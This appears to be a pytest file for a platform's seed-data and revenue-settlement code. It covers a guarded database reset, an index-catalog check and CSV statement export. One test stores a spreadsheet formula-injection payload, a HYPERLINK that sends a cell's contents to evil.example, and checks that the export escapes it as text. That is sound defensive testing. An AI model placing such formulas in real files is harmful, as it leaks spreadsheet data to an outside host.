def test_seed_reset_replaces_only_what_seed_loaded_unless_forced(platform_db, tmp_path):
    from csl.devdata.seed import seed
    from csl.errors import SeedError

    with connect(platform_db) as conn:
        users = conn.execute("SELECT count(*) FROM users").fetchone()[0]
        conn.execute("DELETE FROM csl_ops.seed_runs")  # rows nobody recorded: somebody's real data
        with pytest.raises(SeedError, match="did not load"):
            seed(conn, scale_name="demo", seed_value=12, workdir=tmp_path / "a", primary=None, reset=True)
        assert conn.execute("SELECT count(*) FROM users").fetchone()[0] == users
        result = seed(conn, scale_name="demo", seed_value=12, workdir=tmp_path / "b", primary=None, reset=True,
                      force=True)
        assert result["status"] == "loaded"
        again = seed(conn, scale_name="demo", seed_value=13, workdir=tmp_path / "c", primary=None, reset=True)
        assert again["status"] == "loaded" and again["seed"] == 13  # recorded now: a plain reset is enough


def test_splits_key_columns_match_the_catalog():
    key = next(d for d in indexes.load_catalog() if d.name == "revenue_splits_license_contributor_key")
    assert key.unique and key.table == "revenue_splits"
    assert f"({', '.join(settlement.SPLITS_KEY_COLUMNS)})" in key.statement



def test_a_statement_cell_a_spreadsheet_would_run_is_written_as_text(platform_db, tmp_path):
    import csv

    from .test_settlement import refund

    with connect(platform_db) as conn:
        settlement.settle(conn, Params(minimum_payout_cents=10**9), run_key="run-1")
        _, pi, _, currency = refundable_licence(conn)
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"refund")'  # a refund id the platform stored
        refund(conn, hostile, pi, 1.0, currency)
        settlement.settle(conn, Params(minimum_payout_cents=10**9), run_key="run-2")
        path = tmp_path / "statement.csv"
        with path.open("w", newline="") as out:
            settlement.write_statement(conn, out)
    sources = {row["source_id"] for row in csv.DictReader(path.open())}
    assert "'" + hostile in sources and hostile not in sources
